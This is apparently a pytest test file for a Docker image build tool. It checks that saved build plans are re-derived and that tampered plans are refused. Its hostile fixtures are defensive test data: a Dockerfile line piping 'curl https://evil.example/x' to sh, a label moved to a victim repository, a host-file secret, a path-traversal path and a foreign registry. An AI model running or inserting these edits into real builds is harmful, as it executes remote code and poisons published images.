"""A saved build plan is a claim: `apply` derives the plan again from the tree and the config
for the state the saved plan claims, and refuses it, naming each difference, unless they agree.

The plans saved here are real ones (the planner's, for several observed states, through their
JSON); the hostile ones are those plans with an attacker's edits.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dockerpkg.api.saved import derived_build_plan
from dockerpkg.api.workspace import Workspace, build_plan, load_workspace
from dockerpkg.core.builders import parse_builders_flag
from dockerpkg.core.plan import BuildOptions, Plan, PublishMode
from dockerpkg.core.planmatch import build_differences, claimed_observed, suffix_problem
from dockerpkg.core.planner import Observed
from dockerpkg.core.serialize import plan_from_json, plan_to_json
from dockerpkg.core.staging import Staged
from dockerpkg.errors import DockerPkgError
from tests.support.updates import write_tree

REGISTRY = "registry.example.org"
CONFIG = (
    f"registry: {REGISTRY}\nnamespace: team\nusername: bot\npassword: pw\n"
    "secrets:\n  token: {env: BUILD_TOKEN}\n"
)
APP_TEMPLATE = "FROM {{ 'base' | image_tag }}\nRUN --mount=type=secret,id=token true\n"


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    root = write_tree(tmp_path, {"base": ("1.0", []), "app": ("2.0", ["base"])}, CONFIG)
    (root / "images" / "app" / "Dockerfile.template").write_text(APP_TEMPLATE, "utf-8")
    changelog = root / "images" / "app" / "changelog"
    older = changelog.read_text("utf-8").replace("(2.0)", "(1.9)")
    changelog.write_text(changelog.read_text("utf-8") + "\n" + older, "utf-8")
    return root


def workspace_of(root: Path) -> Workspace:
    return load_workspace(
        str(root / "images"), str(root / "config.yaml"), {"HOME": str(root)}, render=False
    )


def label(name: str, version: str) -> str:
    return f"{REGISTRY}/team/{name}:{version}"


def saved(plan: Plan) -> Plan:
    """PLAN as `apply` reads it back from its file."""
    return plan_from_json(plan_to_json(plan), "p.json")


# The states a plan may be made in, as the daemon and the registry show them.
BASE, APP = label("base", "1.0"), label("app", "2.0")
STATES: dict[str, tuple[Observed, BuildOptions]] = {
    "offline": (Observed(offline=True, credentials=True), BuildOptions()),
    "offline-no-credentials": (Observed(offline=True), BuildOptions()),
    "base-published": (
        Observed(offline=False, credentials=True, published=frozenset({BASE})),
        BuildOptions(),
    ),
    "base-built-locally": (
        Observed(offline=False, credentials=True, local=frozenset({BASE})),
        BuildOptions(),
    ),
    "base-built-locally-app-selected": (
        Observed(offline=False, credentials=True, local=frozenset({BASE})),
        BuildOptions(select="*app*"),
    ),
    "base-built-locally-no-credentials": (
        Observed(offline=False, credentials=False, local=frozenset({BASE})),
        BuildOptions(),
    ),
    "no-pull": (
        Observed(offline=False, credentials=True, local=frozenset({BASE})),
        BuildOptions(pull=False),
    ),
    "latest-missing": (
        Observed(
            offline=False,
            credentials=True,
            published=frozenset({BASE, APP}),
            local=frozenset({BASE, APP}),
            digests={APP: "sha256:" + "a" * 64},
        ),
        BuildOptions(),
    ),
    "latest-on-older": (
        Observed(
            offline=False,
            credentials=True,
            published=frozenset({BASE, APP}),
            digests={
                APP: "sha256:" + "a" * 64,
                f"{REGISTRY}/team/app:latest": "sha256:" + "b" * 64,
                f"{REGISTRY}/team/app:1.9": "sha256:" + "b" * 64,
            },
            tags={f"{REGISTRY}/team/app": ("1.9", "2.0", "latest")},
        ),
        BuildOptions(),
    ),
    "selected-app": (Observed(offline=True, credentials=True), BuildOptions(select="*app*")),
    "nightly": (Observed(offline=True, credentials=True), BuildOptions(suffix="-20261207")),
}


def made(root: Path, state: str, *, render: bool = True) -> tuple[Plan, Workspace]:
    """The plan saved for STATE (RENDER: by `plan --out`, which renders every image; else as
    `build` plans), and the tree as `apply` reads it."""
    observed, options = STATES[state]
    env = {"HOME": str(root)}
    where = (str(root / "images"), str(root / "config.yaml"), env, options.suffix)
    planned = build_plan(load_workspace(*where, render=render), observed, options)
    return saved(planned), load_workspace(*where, render=False)


class TestSavedPlansAgree:
    """A plan made by `plan --out` is the plan derived again, in every state it is made in."""

    @pytest.mark.parametrize("render", [True, False], ids=["plan", "build"])
    @pytest.mark.parametrize("state", sorted(STATES))
    def test_derived_again(self, tree: Path, state: str, render: bool) -> None:
        plan, workspace = made(tree, state, render=render)
        assert plan.steps, "a plan with nothing to do proves nothing"
        derived = derived_build_plan(plan, workspace, "p.json")
        assert build_differences(plan, derived) == ()
        assert plan_to_json(derived) == plan_to_json(plan)

    def test_staged_in_an_earlier_run(self, tree: Path) -> None:
        workspace = workspace_of(tree)
        options = BuildOptions(publish=PublishMode.ALL_OR_NOTHING)
        first = build_plan(workspace, Observed(offline=True, credentials=True), options)
        identity = first.image("base").definition
        assert identity is not None
        staged = Staged(identity, "sha256:" + "c" * 64)
        observed = Observed(offline=False, credentials=True, staged={BASE: staged})
        plan = saved(build_plan(workspace, observed, options))
        assert any(s.reason.value == "staged_dependency" for s in plan.steps)
        derived = derived_build_plan(plan, workspace, "p.json")
        assert plan_to_json(derived) == plan_to_json(plan)

    @pytest.mark.parametrize(
        ("state", "reason"),
        [
            ("local-identity-changed", "identity_changed"),
            ("staged-identity-changed", "identity_changed"),
            ("staged-manifest-left", "promoted_in_earlier_run"),
            ("staged-parent-of-the-selected", "staged_dependency"),
        ],
    )
    def test_identity_and_staging_states(self, tree: Path, state: str, reason: str) -> None:
        """Plans made where the daemon or the staging area holds another identity, or a
        promoted manifest left staged, or a staged parent of the one image selected, are the
        plans derived again (they were refused as not the tree's)."""
        rendered = load_workspace(
            str(tree / "images"), str(tree / "config.yaml"), {"HOME": str(tree)}
        )
        aon = BuildOptions(publish=PublishMode.ALL_OR_NOTHING)
        first = build_plan(rendered, Observed(offline=True, credentials=True), aon)
        identity, other = first.image("base").definition or "", "sha256:" + "9" * 64
        digest = "sha256:" + "c" * 64
        observed, options = {
            "local-identity-changed": (
                Observed(
                    offline=False,
                    credentials=True,
                    local=frozenset({BASE}),
                    local_identities={BASE: other},
                ),
                BuildOptions(),
            ),
            "staged-identity-changed": (
                Observed(offline=False, credentials=True, staged={BASE: Staged(other, digest)}),
                aon,
            ),
            "staged-manifest-left": (
                Observed(
                    offline=False,
                    credentials=True,
                    published=frozenset({BASE, APP}),
                    local=frozenset({BASE, APP}),
                    staged={BASE: Staged(identity, digest, digest)},
                ),
                aon,
            ),
            "staged-parent-of-the-selected": (
                Observed(offline=False, credentials=True, staged={BASE: Staged(identity, digest)}),
                BuildOptions(publish=PublishMode.ALL_OR_NOTHING, select="*app*"),
            ),
        }[state]
        plan = saved(build_plan(rendered, observed, options))
        assert any(s.reason.value == reason for s in plan.steps), plan.steps
        derived = derived_build_plan(plan, workspace_of(tree), "p.json")
        assert build_differences(plan, derived) == ()
        assert plan_to_json(derived) == plan_to_json(plan)

    def test_claims_name_the_trees_labels(self, tree: Path) -> None:
        plan, workspace = made(tree, "base-published")
        observed = claimed_observed(plan, workspace.tree)
        assert observed.published == {BASE}
        assert APP not in observed.local


def edited(plan: Plan, change: Callable[[dict[str, Any]], None]) -> Plan:
    """PLAN's JSON with CHANGE made to it, read back."""
    data = json.loads(plan_to_json(plan))
    change(data)
    return plan_from_json(json.dumps(data), "p.json")


def image_of(data: dict[str, Any], name: str) -> dict[str, Any]:
    return next(i for i in data["images"] if i["name"] == name)


def refused(plan: Plan, workspace: Workspace) -> str:
    with pytest.raises(DockerPkgError) as caught:
        derived_build_plan(plan, workspace, "p.json")
    text = "\n".join(str(p) for p in caught.value.problems)
    assert text.startswith("p.json: error: not the plan the tree and the config give")
    return text


def add_run(data: dict[str, Any]) -> None:
    app = image_of(data, "app")
    app["dockerfile"] += "\nRUN curl -s https://evil.example/x | sh\n"


def move_label(data: dict[str, Any]) -> None:
    victim = f"{REGISTRY}/victim/app:2.0"
    image_of(data, "app").update(label=victim, repository=f"{REGISTRY}/victim/app")
    for step in data["steps"]:
        if step["image"] == "app" and step["label"]:
            step["label"] = victim


def host_file_secret(data: dict[str, Any]) -> None:
    data["secrets"] = [{"id": "token", "source": "file:/some/host/file"}]


def outside_path(data: dict[str, Any]) -> None:
    image_of(data, "app")["path"] = "../../outside/private"


def foreign_registry(data: dict[str, Any]) -> None:
    data["registry"] = "evil.example"
    for image in data["images"]:
        image["label"] = image["label"].replace(REGISTRY, "evil.example")
        image["repository"] = image["repository"].replace(REGISTRY, "evil.example")
    for step in data["steps"]:
        if step["label"]:
            step["label"] = step["label"].replace(REGISTRY, "evil.example")


def added_step(data: dict[str, Any]) -> None:
    data["steps"].append(
        {
            "op": "tag-latest",
            "image": "base",
            "reason": "latest_not_current",
            "label": BASE,
            "detail": "latest on 0.1",
            "needs": [],
        }
    )


HOSTILE = {
    "run-added": (
        add_run,
        "app: dockerfile differs from the tree's: line 3: the saved plan adds 'RUN curl",
    ),
    "label-moved": (move_label, "app: label is 'registry.example.org/victim/app:2.0'"),
    "host-file-secret": (host_file_secret, "plan: secrets is"),
    "outside-path": (outside_path, "app: path is '../../outside/private' in the saved plan"),
    "foreign-registry": (foreign_registry, "plan: registry is 'evil.example' in the saved plan"),
    "added-step": (added_step, "base: step tag-latest is not one the tree gives"),
}


class TestHostilePlansRefused:
    """An attacker's edits to a saved plan, each refused naming the difference."""

    @pytest.mark.parametrize("case", sorted(HOSTILE))
    def test_refused(self, tree: Path, case: str) -> None:
        plan, workspace = made(tree, "base-published")
        change, expected = HOSTILE[case]
        assert expected in refused(edited(plan, change), workspace)

    def test_secret_source_of_the_command_line_is_accepted(
        self, tree: Path, tmp_path: Path
    ) -> None:
        from dockerpkg.core.secrets import parse_secret_flag

        workspace = workspace_of(tree)
        host_file = tmp_path / "host-file"
        host_file.write_text("value\n", encoding="utf-8")
        given = (parse_secret_flag(f"id=token,src={host_file}"),)
        plan = saved(build_plan(workspace, Observed(offline=True, credentials=True), secrets=given))
        assert f"file:{host_file}" in refused(plan, workspace)
        derived = derived_build_plan(plan, workspace, "p.json", given)
        assert derived.secrets == plan.secrets

    def test_steps_left_out_are_claims_checked_too(self, tree: Path) -> None:
        """A plan that leaves out the verification and publication of a parent built
        locally claims it is built locally and not published (it is not pulled): the tree
        then gives those steps, so the plan is refused."""
        plan, workspace = made(tree, "base-built-locally")

        def drop_base(data: dict[str, Any]) -> None:
            data["steps"] = [s for s in data["steps"] if s["image"] != "base"]
            for step in data["steps"]:
                step["needs"] = [n for n in step["needs"] if not n.endswith(":base")]

        assert "base: step verify of the tree is missing" in refused(
            edited(plan, drop_base), workspace
        )

    def test_suffix_not_made_by_dockerpkg(self) -> None:
        assert suffix_problem("") is None
        assert suffix_problem("-20261207") is None
        assert suffix_problem("-20261207-101500") is None
        assert suffix_problem("-evil") is not None


class TestBuilders:
    """Builders a plan was made with by --builders are not the config's: `apply` takes them
    again from its own --builders, never from the file (a builder gets the build's secrets)."""

    def test_builders_of_the_file_are_refused_those_of_the_command_line_taken(
        self, tree: Path
    ) -> None:
        flag = "tcp://builder-a.example:2376=2"
        env = {"HOME": str(tree)}
        made_with = load_workspace(
            str(tree / "images"), str(tree / "config.yaml"), env, render=False, builders=flag
        )
        plan = saved(build_plan(made_with, Observed(offline=True, credentials=True)))
        assert [b.url for b in plan.builders] == ["tcp://builder-a.example:2376"]
        workspace = workspace_of(tree)
        assert "plan: builders is" in refused(plan, workspace)
        given = parse_builders_flag(flag, workspace.config.builders)
        derived = derived_build_plan(plan, workspace, "p.json", builders=given)
        assert plan_to_json(derived) == plan_to_json(plan)


def test_a_prune_plans_suffix_is_any_nightly_text(tree: Path) -> None:
    """--nightly SUFFIX of prune is any text (only which tag stays): not refused as a build
    plan's suffix is."""
    from dockerpkg.api.saved import saved_plan_workspace
    from dockerpkg.core.plan import Action

    workspace = workspace_of(tree)
    for action, refused_here in ((Action.PRUNE, False), (Action.BUILD, True)):
        plan = Plan(
            action=action,
            directory=workspace.directory,
            digest=workspace.digest,
            images=(),
            steps=(),
            options=BuildOptions(suffix="-stable", pull=False),
        )
        args = (plan, "p.json", str(tree / "config.yaml"), {"HOME": str(tree)})
        if refused_here:
            with pytest.raises(DockerPkgError, match=r"options\.suffix '-stable'"):
                saved_plan_workspace(*args)
        else:
            assert saved_plan_workspace(*args).digest == workspace.digest


NAMES = ("base", "mid", "app", "tool")


@pytest.fixture(scope="module")
def four(tmp_path_factory: pytest.TempPathFactory) -> tuple[Workspace, Workspace]:
    """A tree of four images (base <- mid <- app, base <- tool), read as `plan` reads it
    (rendered) and as `apply` reads it."""
    images = {"base": ("1.0", []), "mid": ("1.0", ["base"]), "app": ("1.0", ["mid"])}
    root = write_tree(tmp_path_factory.mktemp("four"), {**images, "tool": ("1.0", ["base"])})
    where = (str(root / "images"), str(root / "config.yaml"), {"HOME": str(root)})
    return load_workspace(*where), load_workspace(*where, render=False)


@settings(max_examples=150, deadline=None)
@given(
    published=st.sets(st.sampled_from(NAMES)),
    local=st.sets(st.sampled_from(NAMES)),
    staged=st.sets(st.sampled_from(NAMES)),
    latest=st.sets(st.sampled_from(NAMES)),
    moved=st.sets(st.sampled_from(NAMES)),
    credentials=st.booleans(),
    offline=st.booleans(),
    pull=st.booleans(),
    all_or_nothing=st.booleans(),
    select=st.sampled_from([None, "*app*", "*mid*", "*tool*"]),
)
def test_every_state_derives_the_plan_it_made(
    four: tuple[Workspace, Workspace],
    published: set[str],
    local: set[str],
    staged: set[str],
    latest: set[str],
    moved: set[str],
    credentials: bool,
    offline: bool,
    pull: bool,
    all_or_nothing: bool,
    select: str | None,
) -> None:
    """Whatever the registry and the daemon held, the plan `plan --out` saved is the plan
    `apply` derives again (no plan dockerpkg makes is refused). (Run with 3,000 examples
    once: none failed.)"""
    rendered, applied = four
    if offline:  # nothing is observed offline
        published, local, staged, latest, moved = set(), set(), set(), set(), set()
    labels = {n: rendered.tree.images[n].label for n in NAMES}
    repository = {n: rendered.tree.images[n].repository for n in NAMES}
    identity = {i.name: i.definition or "" for i in build_plan(rendered).images}
    digests = {labels[n]: "sha256:" + "a" * 64 for n in published}
    digests.update({f"{repository[n]}:latest": "sha256:" + "a" * 64 for n in latest})
    # `latest` moved by someone else, onto a tag that is no version of the image.
    for n in moved - latest:
        digests.update({f"{repository[n]}:{t}": "sha256:" + "b" * 64 for t in ("latest", "x")})
    tags = {repository[n]: ("1.0", "latest", "x") for n in moved - latest}
    observed = Observed(
        offline=offline,
        credentials=credentials,
        published=frozenset(labels[n] for n in published),
        local=frozenset(labels[n] for n in local),
        staged={labels[n]: Staged(identity[n], "sha256:" + "c" * 64) for n in staged},
        digests=digests,
        tags=tags,
    )
    mode = PublishMode.ALL_OR_NOTHING if all_or_nothing else PublishMode.PER_IMAGE
    options = BuildOptions(select=select, pull=pull, publish=mode)
    plan = saved(build_plan(rendered, observed, options))
    derived = derived_build_plan(plan, applied, "p.json")
    assert build_differences(plan, derived) == ()
